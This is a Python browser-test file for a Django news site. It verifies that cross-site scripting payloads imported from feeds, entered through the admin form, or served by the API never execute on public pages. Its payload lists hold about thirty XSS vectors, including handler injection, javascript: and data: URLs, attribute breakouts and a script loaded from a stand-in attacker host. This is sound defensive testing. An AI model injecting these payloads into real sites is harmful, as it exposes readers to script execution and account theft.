"""Cross-site scripting in Chromium: payloads that came in through an import, through the
admin's article form and out through the API run nowhere on the public site.

Every page is visited twice: under the site's Content Security Policy, where any violation
means either a payload reached the page or the policy breaks one of our own pages; and with
the policy bypassed, where only escaping and the HTML sanitizer stand between a payload and
the reader. A payload that runs calls `__xss(name)` or opens a dialog; both are recorded.
"""

import json
import uuid
from urllib.parse import quote

import pytest
from django.core.cache import cache

from news import workflow
from news.importing.saving import ImportOptions, run_import
from news.models import Article

from ..factories import AgencyFactory, seeded_region

pytestmark = [
    pytest.mark.browser,
    # live_server needs committed rows; serialized rollback restores the seeded regions.
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]

# Article bodies: each payload, if it ever ran, would name itself.
BODY_PAYLOADS = [
    "<script>__xss('script')</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror=\"__xss('img-onerror')\">",
    "<a href=\"javascript:__xss('javascript-url')\">read more</a>",
    "<a href=\"jav&#x09;ascript:__xss('javascript-url-entity')\">read</a>",
    '<svg onload="__xss(\'svg-onload\')"><circle r="4"/></svg>',
    "<svg><script>__xss('svg-script')</script></svg>",
    "<img src=x onerror=__xss('broken-markup') <b>bold",
    "<<script>__xss('nested')//<</script>",
    "<scr<script>ipt>__xss('split-tag')</script>",
    "<!--<img src=\"--><img src=x onerror=__xss('comment-breakout')//\">",
    "<iframe srcdoc=\"<script>parent.__xss('iframe-srcdoc')</script>\"></iframe>",
    "<p style=\"width: expression(__xss('css-expression'))\">styled</p>",
    "<p style=\"background:url(javascript:__xss('css-url'))\">styled</p>",
    "<style>@import 'javascript:__xss(1)'; body { color: red }</style>",
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygnZGF0YScpPC9zY3JpcHQ+">data link</a>',
    "<object data=\"data:text/html,<script>parent.__xss('object-data')</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=parent.__xss('embed')>\">",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss(1)'/>\">",
    "<form action=\"javascript:__xss('form')\"><button>send</button></form>",
    "<details open ontoggle=\"__xss('details-ontoggle')\"><summary>more</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss('mutation')>",
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(\'meta-refresh\')">',
    "<base href=\"javascript:__xss('base')//\">",
    "<input autofocus onfocus=\"__xss('autofocus')\">",
    "<video><source onerror=\"__xss('video-source')\"></video>",
]
BODY = "<p>Safe opening paragraph.</p>\n" + "\n".join(BODY_PAYLOADS)

# Titles and leads are text: each tries to break out of an attribute or element it is in
# (<title>, <meta content>, <a title>, an Atom <title>).
TEXT_PAYLOADS = [
    "\"><img src=x onerror=__xss('title-double-quote')>",
    "'><svg onload=__xss('title-single-quote')>",
    "</title><script>__xss('title-element')</script>",
    "\" autofocus onfocus=\"__xss('title-attribute')",
    "]]></title><script xmlns=\"http://www.w3.org/1999/xhtml\">__xss('feed-cdata')</script>",
]

TRAP = """
window.__xssFired = [];
window.__xss = (name) => window.__xssFired.push(String(name));
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__cspViolations.push(event.violatedDirective + ' ' + event.blockedURI);
});
"""

# Elements and attribute values that can run script; the public pages use none of them.
DANGEROUS_MARKUP = """
() => {
  const found = [];
  const urlAttributes = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href'];
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    if (['script', 'iframe', 'object', 'embed', 'base', 'frame'].includes(tag)) {
      found.push('<' + tag + '>');
    }
    if (tag === 'meta' && element.httpEquiv) found.push('<meta http-equiv>');
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(tag + ' ' + name);
      if (name === 'style' || name === 'srcdoc') found.push(tag + ' ' + name);
      if (urlAttributes.includes(name) && /^(javascript|vbscript|data:text)/.test(value)) {
        found.push(tag + ' ' + name + '=' + value.slice(0, 40));
      }
    }
  }
  return found;
}
"""


@pytest.fixture
def agency():
    cache.clear()  # the live server shares this process's local-memory cache
    return AgencyFactory(
        slug="akimat-shymkent", name_en="Payload Akimat", region=seeded_region("KZ-79")
    )


def publish(article: Article, *, by) -> Article:
    """Through the workflow, as an editor would: approve, then publish, going ahead despite
    the pre-publish warnings payloads raise (news.checks)."""
    reason = "Payloads are the point of the test."
    article = workflow.apply_transition("approve", article=article, user=by, override_reason=reason)
    return workflow.apply_transition("publish", article=article, user=by, override_reason=reason)


def visit_all(browser, urls: list[str], *, bypass_csp: bool) -> dict[str, list[str]]:
    """Visit every URL in a fresh context; what ran, what the policy blocked, what markup
    that could run was left in each page."""
    context = browser.new_context(locale="en-US", bypass_csp=bypass_csp)
    context.add_init_script(TRAP)
    page = context.new_page()
    dialogs: list[str] = []

    def dismiss(dialog):
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismiss)
    problems: dict[str, list[str]] = {}
    try:
        for url in urls:
            dialogs.clear()
            response = page.goto(url, wait_until="load")
            assert response is not None and response.status == 200, url
            page.wait_for_timeout(50)  # onload/onerror handlers of broken images
            found = [f"ran: {name}" for name in page.evaluate("window.__xssFired")]
            found += [f"dialog: {dialog}" for dialog in dialogs]
            if not bypass_csp:
                violations = page.evaluate("window.__cspViolations")
                found += [f"CSP violation: {violation}" for violation in violations]
            if "html" in response.headers["content-type"]:
                found += [f"markup: {item}" for item in page.evaluate(DANGEROUS_MARKUP)]
            if found:
                problems[url] = found
    finally:
        context.close()
    return problems


def public_pages(base: str, articles: list[Article]) -> list[str]:
    query = quote(TEXT_PAYLOADS[0])
    pages = [
        f"{base}/en/",
        f"{base}/en/releases/",
        f"{base}/en/search/?q={query}",
        f"{base}/en/releases/?q=payload",
        f"{base}/en/agencies/akimat-shymkent/",
        f"{base}/en/feeds/atom/",
        f"{base}/en/feeds/rss/",
        f"{base}/en/agencies/akimat-shymkent/atom/",
    ]
    pages += [base + article.get_absolute_url() for article in articles]
    for article in articles:
        pages += [f"{base}/en/tags/{tag.slug}/" for tag in article.tags.all()]
    return pages


def assert_nothing_ran(browser, pages: list[str]) -> None:
    assert visit_all(browser, pages, bypass_csp=False) == {}
    assert visit_all(browser, pages, bypass_csp=True) == {}


def rss_feed(items: list[tuple[str, str, str]]) -> bytes:
    entries = "".join(
        f"<item><title><![CDATA[{title}]]></title><link>{link}</link>"
        f"<guid>{uuid.uuid4()}</guid><pubDate>Tue, 03 Feb 2026 10:00:00 +0500</pubDate>"
        f"<description><![CDATA[{body}]]></description></item>"
        for title, link, body in items
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Akimat of Shymkent</title><link>https://shymkent.example.kz/</link>{entries}"
        "</channel></rss>"
    ).encode()


def test_payloads_imported_from_a_feed_and_a_digest_run_nowhere(
    live_server, browser, agency, editor
):
    feed = rss_feed(
        [
            (f"Payload release {number} {payload}", link, BODY)
            for number, (payload, link) in enumerate(
                zip(
                    TEXT_PAYLOADS,
                    [
                        "javascript:__xss('feed-link')",
                        "https://shymkent.example.kz/news/1\"><script>__xss('link')</script>",
                        "data:text/html,<script>__xss('feed-data-link')</script>",
                        "https://shymkent.example.kz/news/4",
                        "https://shymkent.example.kz/news/5",
                    ],
                    strict=True,
                )
            )
        ]
    )
    digest = (
        f"Payload digest release {TEXT_PAYLOADS[2]} 04.02.2026\n"
        f"{BODY_PAYLOADS[0]} and {BODY_PAYLOADS[2]} written as plain text.\n"
        "Source : javascript:__xss('digest-source')\n"
    ).encode()
    options = ImportOptions(default_agency=agency, language="en")
    for data, name in ((feed, "payloads.rss"), (digest, "payloads.txt")):
        _run, report = run_import(data, input_name=name, options=options)
        assert report.failed == 0, report

    imported = list(Article.objects.filter(title__startswith="Payload"))
    assert len(imported) == 6
    articles = [publish(article, by=editor) for article in imported]

    assert_nothing_ran(browser, public_pages(live_server.url, articles))


def test_payloads_saved_through_the_admin_form_run_nowhere(
    live_server, browser, agency, editor, second_editor
):
    context = browser.new_context(locale="en-US")
    context.add_init_script(TRAP)
    page = context.new_page()
    page.goto(f"{live_server.url}/admin/login/")
    page.fill("#id_username", editor.username)
    page.fill("#id_password", "correct-horse-battery")
    page.click("input[type=submit]")
    assert page.url == f"{live_server.url}/admin/"

    page.goto(f"{live_server.url}/admin/news/article/add/")
    page.fill("#id_title", f"Payload from the admin {TEXT_PAYLOADS[0]}")
    page.fill("#id_lead", TEXT_PAYLOADS[1])
    # The body's editor hides its textarea; a crafted request would post it as it is.
    page.locator("#id_body").evaluate("(textarea, body) => { textarea.value = body }", BODY)
    page.fill("#id_tags", "\"<img src=x onerror=__xss('tag')>\", parks")
    page.locator(".field-agency .select2-selection").click()
    page.keyboard.type("Payload")
    page.locator(".select2-results__option", has_text="Payload Akimat").click()
    page.select_option("#id_language", "en")
    page.fill("#id_release_date", "2026-02-05")
    page.fill("#id_source_url", 'https://shymkent.example.kz/news/9?a="><script>x</script>')
    page.click("input[name=_save]")
    page.locator(".messagelist .success").wait_for()
    assert page.url == f"{live_server.url}/admin/news/article/"
    # The admin itself, with its autocomplete widget, works under the policy.
    assert page.evaluate("window.__cspViolations") == []
    assert page.evaluate("window.__xssFired") == []
    context.close()

    article = Article.objects.get(title__startswith="Payload from the admin")
    assert article.author == editor
    article = workflow.apply_transition("submit", article=article, user=editor)
    article = publish(article, by=second_editor)

    assert_nothing_ran(browser, public_pages(live_server.url, [article]))


def test_the_api_serves_payloads_as_inert_json(live_server, browser, agency, editor):
    article = Article.objects.create(
        title=f"Payload in the API {TEXT_PAYLOADS[0]}",
        lead=TEXT_PAYLOADS[2],
        body=BODY,
        agency=agency,
        language="en",
        status=Article.Status.IN_REVIEW,
        release_date="2026-02-06",
    )
    publish(article, by=editor)
    detail = f"{live_server.url}/api/v1/articles/{article.pk}"
    listing = f"{live_server.url}/api/v1/articles?q=payload"

    context = browser.new_context()
    response = context.request.get(detail)
    assert response.headers["content-type"] == "application/json; charset=utf-8"
    assert response.headers["x-content-type-options"] == "nosniff"
    body = json.loads(response.text())["body"]
    assert "Safe opening paragraph." in body
    for fragment in ("<script", "onerror", "onload", "javascript:", "srcdoc", "style="):
        assert fragment not in body.lower(), fragment
    context.close()

    # A browser opening the API's answers shows text; nothing in them runs.
    assert visit_all(browser, [detail, listing], bypass_csp=False) == {}
    assert visit_all(browser, [detail, listing], bypass_csp=True) == {}


def test_the_api_documentation_works_under_the_policy(live_server, browser):
    context = browser.new_context()
    context.add_init_script(TRAP)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{live_server.url}/api/v1/docs", wait_until="networkidle")

    page.locator(".swagger-ui .info .title").wait_for()
    assert page.locator(".opblock-summary-path", has_text="/api/v1/articles").count() >= 1
    assert page.evaluate("window.__cspViolations") == []
    assert errors == []
    context.close()
